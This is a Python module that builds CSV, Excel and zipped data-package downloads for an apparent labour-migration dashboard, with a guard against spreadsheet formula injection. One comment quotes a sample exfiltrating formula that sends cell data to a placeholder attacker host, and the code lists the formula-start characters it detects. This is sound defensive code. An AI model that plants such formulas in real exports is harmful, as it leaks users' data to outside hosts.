"""The table behind a view as an analyst downloads it: CSV, Excel, and a data package (the tables as CSV in a zip,
with a README naming the filters, the sources with citations and licences, the date and the link that reopens the
view). Every file carries its sources, licences and the filters applied, and describes every column from the
catalog (``data.catalog.column_dictionary``): one header row a person reads, "Label (unit) [code]", with the
column's code in brackets the same in every language, so a script can still find it.

The words (headers, about sheet, README, dictionary, sheet names) are in the language of the session that offered
the download: the buttons build the files later, outside the session's run, so the language is passed in.
"""

import io
import re
import zipfile
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import date

import pandas as pd
import streamlit as st

from components.filters import view_link as current_view_link
from components.formatting import exact_number
from components.i18n import LOCALES, N_, _, current_language, translator
from components.provenance import source_line, used_sources, with_attribution
from data.catalog import DICTIONARY_FIELDS, column_dictionary

# A spreadsheet reads a cell starting with one of these as a formula (OWASP, "CSV injection"): a news title from a
# user's file such as '=HYPERLINK("http://evil.example/?"&A1,"click")' would run when the download is opened.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?\d[\d,]*(\.\d+)?")  # "-12.5" is a number to a spreadsheet, not a formula
_CODE_IN_HEADER = re.compile(r"\[([^\[\]]+)\]$")
SHEETS = {"data": N_("data"), "about": N_("about"), "dictionary": N_("dictionary"), "sources": N_("sources")}
NO_FILTER = N_("none (all rows)")


def formula_safe(table: pd.DataFrame) -> pd.DataFrame:
    """The table as every download (CSV, Excel, zip) writes it: a text cell that a spreadsheet would run as a
    formula gets a leading apostrophe, so it is shown as the text it is. The table on screen is not changed."""
    safe = table
    for column in table.columns:
        values = table[column]
        if not (pd.api.types.is_object_dtype(values) or pd.api.types.is_string_dtype(values)):
            continue
        is_formula = values.map(
            lambda value: isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value)
        ).astype(bool)
        if is_formula.any():
            safe = safe.copy() if safe is table else safe
            safe.loc[is_formula, column] = "'" + values[is_formula]
    return safe


@dataclass(frozen=True)
class View:
    """What a download says about the view it comes from: its title, what the figures are, the filters in words,
    the link that reopens it, the catalog tables its rows come from, and the reader's language."""

    title: str = ""
    measure: str = ""
    filters: Sequence[str] = ()
    view_link: str | None = None
    catalog_tables: Sequence[str] = ()
    language: str = field(default_factory=current_language)

    def gettext(self, message: str) -> str:
        return translator(self.language).gettext(message)

    def dictionary(self, columns) -> list[dict[str, str]]:
        return column_dictionary(columns, self.catalog_tables, self.gettext)

    def field_headers(self) -> dict[str, str]:
        """The dictionary's own headers, read the same way as the data's: "Meaning [meaning]"."""
        return {field: f"{self.gettext(label)} [{field}]" for field, label in DICTIONARY_FIELDS.items()}


def readable_headers(dictionary: list[dict[str, str]]) -> dict[str, str]:
    return {entry["column"]: entry["header"] for entry in dictionary}


def column_code(header: str) -> str:
    """The code a download's header ends with in brackets ("Origin (ISO 3166-1 alpha-3 code) [orig_iso3]")."""
    found = _CODE_IN_HEADER.search(header)
    return found.group(1) if found else header


def csv_text(table: pd.DataFrame, headers: dict[str, str] | None = None) -> str:
    """A table as CSV: formula-safe, one header row (``headers``: code -> what a person reads; codes without)."""
    return formula_safe(table).rename(columns=headers or {}).to_csv(index=False)


def csv_bytes(table: pd.DataFrame, sources: pd.DataFrame, view: View | None = None) -> bytes:
    """The rows with each one's citation and licence, headed by what each column is in ``view``'s language (the
    download); with no view, by the column codes alone."""
    shipped = with_attribution(table, sources)
    headers = readable_headers(view.dictionary(shipped.columns)) if view else None
    return csv_text(shipped, headers).encode("utf-8")


def about_rows(table: pd.DataFrame, view: View, on: date) -> list[tuple[str, str]]:
    gettext = view.gettext
    about = [
        (gettext("Title"), view.title),
        (gettext("What the figures are"), view.measure),
        (gettext("Rows"), exact_number(len(table), locale=LOCALES[view.language])),
        (gettext("Downloaded on"), on.isoformat()),
    ]
    about += [(gettext("Filter"), description) for description in view.filters] or [
        (gettext("Filter"), gettext(NO_FILTER))
    ]
    if view.view_link:
        about.append((gettext("Link to this view"), view.view_link))
    return about


def excel_bytes(
    table: pd.DataFrame, sources: pd.DataFrame, view: View | None = None, *, on: date | None = None, **described
) -> bytes:
    """A workbook: the data (the readable headers of the CSV above the row of column codes), a sheet naming the view
    (filters, link, date), the data dictionary and a sheet of sources. ``view``, or its fields as keywords."""
    view = view or View(**described)
    sheet = {key: view.gettext(name) for key, name in SHEETS.items()}
    dictionary = view.dictionary(table.columns)
    about = pd.DataFrame(
        about_rows(table, view, on or date.today()), columns=[view.gettext("item"), view.gettext("value")]
    )
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        formula_safe(table).to_excel(writer, sheet_name=sheet["data"], index=False, startrow=1)
        for position, entry in enumerate(dictionary, start=1):
            writer.sheets[sheet["data"]].cell(row=1, column=position, value=entry["header"])
        formula_safe(about).to_excel(writer, sheet_name=sheet["about"], index=False)
        pd.DataFrame(dictionary).rename(columns=view.field_headers()).to_excel(
            writer, sheet_name=sheet["dictionary"], index=False
        )
        formula_safe(used_sources(sources, table.get("source_id", []))).to_excel(
            writer, sheet_name=sheet["sources"], index=False
        )
    return buffer.getvalue()


def package_readme(tables: dict[str, pd.DataFrame], sources: pd.DataFrame, view: View, *, on: date) -> str:
    gettext = view.gettext
    ids = {source_id for table in tables.values() for source_id in table.get("source_id", [])}
    lines = [view.title, "=" * len(view.title), ""]
    lines += [gettext("Downloaded on {date} from the Asian labour migration dashboard.").format(date=on.isoformat())]
    lines += [
        "",
        gettext("What the figures are: {measure}").format(measure=view.measure),
        "",
        gettext("Filters applied:"),
    ]
    lines += [f"- {description}" for description in view.filters] or [f"- {gettext(NO_FILTER)}"]
    if view.view_link:
        lines += ["", gettext("Reopen this view: {link}").format(link=view.view_link)]
    lines += ["", gettext("Files:")]
    lines += [
        "- "
        + gettext("{file} ({rows} rows)").format(
            file=f"{name}.csv", rows=exact_number(len(table), locale=LOCALES[view.language])
        )
        for name, table in tables.items()
    ]
    lines += ["- " + gettext("{file}: every column's meaning, unit and source").format(file=_dictionary_file(name, tables))
              for name in tables]  # fmt: skip
    lines += [
        "- sources.csv: " + gettext("publisher, dataset, edition, URL, licence and citation of every source used"),
        "",
        gettext("Sources (cite them when you use these figures):"),
    ]
    lines += [f"- [{row['source_id']}] {source_line(row)}" for _, row in used_sources(sources, ids).iterrows()]
    lines += ["", gettext("Missing values are empty cells: the publisher gives no figure (not zero).")]
    lines += ["", gettext("Every CSV file has one header row: the column's name, its unit and, in brackets, its code.")]
    for name, table in tables.items():
        lines += ["", gettext("Columns of {file}: header - meaning").format(file=f"{name}.csv")]
        lines += [
            f"- {entry['header']} - {entry['meaning']}"
            for entry in view.dictionary(with_attribution(table, sources).columns)
        ]
    return "\n".join(lines) + "\n"


def _dictionary_file(name: str, tables: dict[str, pd.DataFrame]) -> str:
    return "dictionary.csv" if len(tables) == 1 else f"{name}-dictionary.csv"


def package_bytes(
    tables: dict[str, pd.DataFrame],
    sources: pd.DataFrame,
    view: View | None = None,
    *,
    on: date | None = None,
    **described,
) -> bytes:
    """The zip: README, each table as CSV with its dictionary, and the sources. ``view``, or its fields as keywords."""
    view, on = view or View(**described), on or date.today()
    ids = {source_id for table in tables.values() for source_id in table.get("source_id", [])}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("README.txt", package_readme(tables, sources, view, on=on))
        for name, table in tables.items():
            archive.writestr(f"{name}.csv", csv_bytes(table, sources, view))
            dictionary = pd.DataFrame(view.dictionary(with_attribution(table, sources).columns))
            archive.writestr(_dictionary_file(name, tables), csv_text(dictionary, view.field_headers()))
        used = used_sources(sources, ids)
        sources_view = View(view.title, view.measure, view.filters, catalog_tables=["sources"], language=view.language)
        archive.writestr("sources.csv", csv_text(used, readable_headers(sources_view.dictionary(used.columns))))
    return buffer.getvalue()


def render_downloads(
    table: pd.DataFrame,
    sources: pd.DataFrame,
    *,
    name: str,
    title: str,
    measure: str,
    filters: list[str],
    view_link: str | None = None,
    key: str | None = None,
    catalog_tables: Sequence[str] = (),
) -> None:
    """CSV, Excel and data-package buttons; the files are built only when a button is pressed. ``catalog_tables``
    names the catalog tables the rows come from: every file describes every column from them."""
    key = key or name
    view = View(title, measure, filters, view_link or current_view_link(), catalog_tables, current_language())
    files = [  # (button, what it builds, file name, type, key suffix, icon, help)
        (_("Download CSV"), lambda: csv_bytes(table, sources, view), f"{name}.csv", "text/csv", "csv",
         ":material/download:", None),
        (_("Download Excel"), lambda: excel_bytes(table, sources, view), f"{name}.xlsx",
         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx", ":material/table_view:", None),
        (_("Data package (zip)"), lambda: package_bytes({name: table}, sources, view), f"{name}-package.zip",
         "application/zip", "zip", ":material/folder_zip:",
         _("The table as CSV with a README naming the filters, sources, licences and the link to this view")),
    ]  # fmt: skip
    for column, (label, build, file_name, mime, suffix, icon, help_text) in zip(st.columns(3), files, strict=True):
        column.download_button(
            label,
            data=build,
            file_name=file_name,
            mime=mime,
            on_click="ignore",
            key=f"{key}_{suffix}",
            icon=icon,
            disabled=table.empty,
            help=help_text,
        )
